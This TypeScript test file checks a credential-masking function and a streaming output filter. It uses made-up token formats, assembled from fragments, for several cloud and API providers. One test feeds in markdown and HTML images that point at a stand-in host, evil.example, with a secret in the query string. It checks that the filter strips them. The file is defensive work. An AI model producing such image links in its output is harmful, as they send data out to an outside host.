// What leaves in pieces is what would leave whole: nothing is lost, and nothing slips through between two pieces.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { maskCredentials } from './credentials.ts'
import { createOutputFilter } from './outputFilter.ts'

// Made up from the issuers' formats, and joined here so that no scanner takes them for real ones.
const secrets = [
  ['AKIA', 'ABCDEFGH23456724'],
  ['sk-ant-', 'api03-abcdefghijklmnopqrstuvwx'],
  ['sk-', 'proj-abcdefghijklmnopqrstuvwx1234'],
  ['ghp_', 'abcdefghijklmnopqrstuvwxyz0123456789'],
  ['xoxb-', '123456789012-abcdefghij'],
  ['eyJ', 'hbGciOiJIUzI1NiJ9.eyJ', 'zdWIiOiJhbm5hIn0.', 'c2lnbmF0dXJlLWhlcmU'],
  ['-----BEGIN RSA ', 'PRIVATE KEY-----\nMIIEow\nabc+/=\n-----END RSA ', 'PRIVATE KEY-----'],
  ['ASIA', 'ABCDEFGH23456724'],
  ['AIza', 'SyAbcdefghijklmnopqrstuvwxyz0123456'],
  ['ghs_', 'abcdefghijklmnopqrstuvwxyz0123456789'],
  ['github_pat_', 'abcdefghijklmnopqrstuvwxyz'],
  ['glpat-', 'abcdefghijklmnopqrstuvwxyz'],
  ['sk_live_', 'abcdefghijklmnopqrstuvwxyz']
].map((parts) => parts.join(''))

function filtered(pieces: readonly string[]): { text: string; removed: readonly string[] } {
  const filter = createOutputFilter()
  const text = pieces.map((piece) => filter.next(piece)).join('') + filter.end()
  return { text, removed: filter.removed }
}
const split = (text: string, cuts: readonly number[]): string[] => {
  const at = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length]
  return at.slice(1).map((end, index) => text.slice(at[index], end))
}

describe('credentials', () => {
  it.each(secrets)('masks %#', (secret) => {
    const { text, kinds } = maskCredentials(`before ${secret} after`)
    expect(text).toMatch(/^before \[[A-Za-z ]+ removed\] after$/)
    expect(kinds).toHaveLength(1)
    expect(maskCredentials(text)).toEqual({ text, kinds: [] })
  })

  it.each([
    ['password=hunter2x and more', 'password=[password removed] and more'],
    ['postgres://anna:s3cret@db.example/app', 'postgres://anna:[password removed]@db.example/app'],
    ['"api_key": "abcdef123456"', '"api_key": "[password removed]"'],
    [`aws_secret_access_key: ${'abcd1234/+'.repeat(4)}`, 'aws_secret_access_key: [AWS secret removed]'],
    [`AccountKey=${'abcd1234'.repeat(8)}==`, 'AccountKey=[Azure key removed]']
  ])('masks a password in %s', (given, expected) => {
    expect(maskCredentials(given).text).toBe(expected)
  })

  it.each([
    'Password: required, at least 12 characters.',
    'Set password=<your password> or ${PASSWORD}.',
    'sk-learn is a library; skip-level meetings are not.',
    'The task-based model risk-weighted assets',
    'https://example.com:8443/path and user@example.com',
    'AKIA is the prefix of a long-term key.',
    'i-0abcd1234ef567890, arn:aws:s3:::bucket, sha256:9f86d081884c7d659a2feaa0c55ad015'
  ])('leaves alone: %s', (text) => {
    expect(maskCredentials(text)).toEqual({ text, kinds: [] })
  })
})

describe('output filter', () => {
  it('shows ordinary words as they come', () => {
    const filter = createOutputFilter()
    expect(filter.next('The answer ')).toBe('The answer ')
    expect(filter.next('is about ')).toBe('is about ')
    expect(filter.next('cost')).toBe('cost')
  })

  it('loses nothing of a text without anything to filter, however it is cut', () => {
    const words = fc.array(
      fc.oneof(
        fc.constantFrom(
          'cost',
          'of',
          '| a | b |',
          '```ts\nconst a = 1\n```',
          '**bold**',
          '!',
          '![',
          '<i',
          'sk-',
          '中文字',
          '-----',
          '\n\n',
          '👩‍💻',
          'https://a.example/x'
        ),
        fc.string({ unit: 'grapheme', maxLength: 6 })
      ),
      { maxLength: 40 }
    )
    fc.assert(
      fc.property(words, fc.array(fc.nat(), { maxLength: 12 }), (parts, cuts) => {
        const text = parts.join(' ')
        expect(filtered(split(text, cuts))).toEqual({ text, removed: [] })
      })
    )
  })

  it('lets no credential through, however it is cut', () => {
    fc.assert(
      fc.property(fc.constantFrom(...secrets), fc.array(fc.nat(), { maxLength: 30 }), (secret, cuts) => {
        const { text, removed } = filtered(split(`Here it is: ${secret} and that was it.`, cuts))
        expect(text).toContain('removed]')
        expect(text).toMatch(/^Here it is: .{0,4}\[[A-Za-z ]+ removed\] and that was it\.$/)
        expect(removed.length).toBeGreaterThan(0)
      })
    )
  })

  it('takes images from elsewhere out and keeps their words, however they are cut', () => {
    fc.assert(
      fc.property(fc.array(fc.nat(), { maxLength: 30 }), (cuts) => {
        const text = 'See ![the chart](https://evil.example/a.png?q=secret) and <img src="//evil.example/b"> here.'
        expect(filtered(split(text, cuts)).text).toBe('See the chart and  here.')
      })
    )
  })
})
